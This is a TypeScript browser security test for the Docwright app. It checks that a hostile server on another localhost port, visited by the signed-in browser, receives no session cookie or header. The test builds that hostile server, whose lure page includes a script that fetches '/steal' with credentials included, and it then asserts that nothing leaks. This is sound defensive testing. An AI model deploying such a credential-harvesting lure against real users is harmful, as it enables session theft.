// The UI's session cannot be taken by another port of this host: browsers send cookies to every port of a host, so
// the session is no cookie but an id the page keeps in sessionStorage (per origin, so per port) and sends as a
// header. A hostile local server the signed-in browser visits receives no Docwright credential; a new tab is not
// signed in.
import type { IncomingHttpHeaders } from 'node:http';
import { createServer, type Server } from 'node:https';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { request } from 'undici';
import { pageErrors, startWorld, type World } from './browser.ts';

let world: World;
let hostile: Server;
let hostileOrigin: string;
const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];

beforeAll(async () => {
  world = await startWorld();
  // Another program on 127.0.0.1, on another port, with a certificate the browser accepts (the same one, so that
  // Secure cookies would be sent to it as to Docwright).
  const certPath = world.server.discovery.cert_path ?? '';
  hostile = createServer(
    { cert: readFileSync(certPath), key: readFileSync(join(dirname(certPath), 'localhost-key.pem')) },
    (req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      if (req.url === '/') {
        res.setHeader('content-type', 'text/html');
        res.end(
          '<!doctype html><title>lure</title><script>fetch("/steal", { credentials: "include" }).then(() => { document.title = "done"; });</script>',
        );
        return;
      }
      res.end('ok');
    },
  );
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  const address = hostile.address();
  hostileOrigin = `https://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
});
afterAll(async () => {
  await world?.close();
  // The browser may have opened a connection it never sent a request on (a preconnect): close() alone would wait
  // for the server's headers timeout (60 s) to end it.
  hostile?.closeAllConnections();
  await new Promise<void>((resolve) => hostile?.close(() => resolve()) ?? resolve());
});

async function settingsStatus(headers: Record<string, string>): Promise<number> {
  const res = await request(`${world.origin}/api/settings`, { dispatcher: world.agent, headers });
  await res.body.dump();
  return res.statusCode;
}

describe('the session and other ports of this host', () => {
  test('a hostile server on another loopback port, visited by the signed-in browser, receives no Docwright credential', async () => {
    const { context, page } = await world.signedIn();
    await page.getByRole('heading', { name: 'Convert markdown to Word' }).waitFor();
    // Signed in: the id is in this tab's storage, and the fragment is gone from the address bar.
    expect(new URL(page.url()).hash).toBe('');
    const id = (await page.evaluate(() => sessionStorage.getItem('docwright.session'))) ?? '';
    expect(id.length).toBeGreaterThanOrEqual(20);
    expect(await context.cookies()).toEqual([]);

    await page.goto(`${hostileOrigin}/`);
    await page.waitForFunction(() => document.title === 'done', null, { timeout: 15_000 });
    expect(seen.map((s) => s.url)).toContain('/steal');
    for (const req of seen) {
      expect(req.headers.cookie, req.url).toBeUndefined();
      expect(req.headers['x-docwright-session'], req.url).toBeUndefined();
      expect(JSON.stringify(req.headers), req.url).not.toContain(id);
    }
    // The other origin's storage holds nothing of Docwright's.
    expect(await page.evaluate(() => sessionStorage.getItem('docwright.session'))).toBeNull();
    // What it could replay (its requests' headers, without the host) opens nothing; the id itself does.
    for (const req of seen) {
      const replay: Record<string, string> = {};
      for (const [name, value] of Object.entries(req.headers))
        if (typeof value === 'string' && !['host', 'connection'].includes(name)) replay[name] = value;
      expect(await settingsStatus(replay)).toBe(401);
    }
    expect(await settingsStatus({ 'x-docwright-session': id })).toBe(200);

    // Back in the same tab Docwright is still signed in; a new tab is not.
    await page.goto(`${world.origin}/#/history`);
    await page.getByRole('heading', { name: 'History' }).first().waitFor();
    const tab = await context.newPage();
    await tab.goto(`${world.origin}/`);
    await tab.getByRole('heading', { name: 'Open Docwright from its link' }).waitFor();
    await world.screenshot(tab, 'session-new-tab');
    expect(pageErrors(page)).toEqual([]);
  });
});
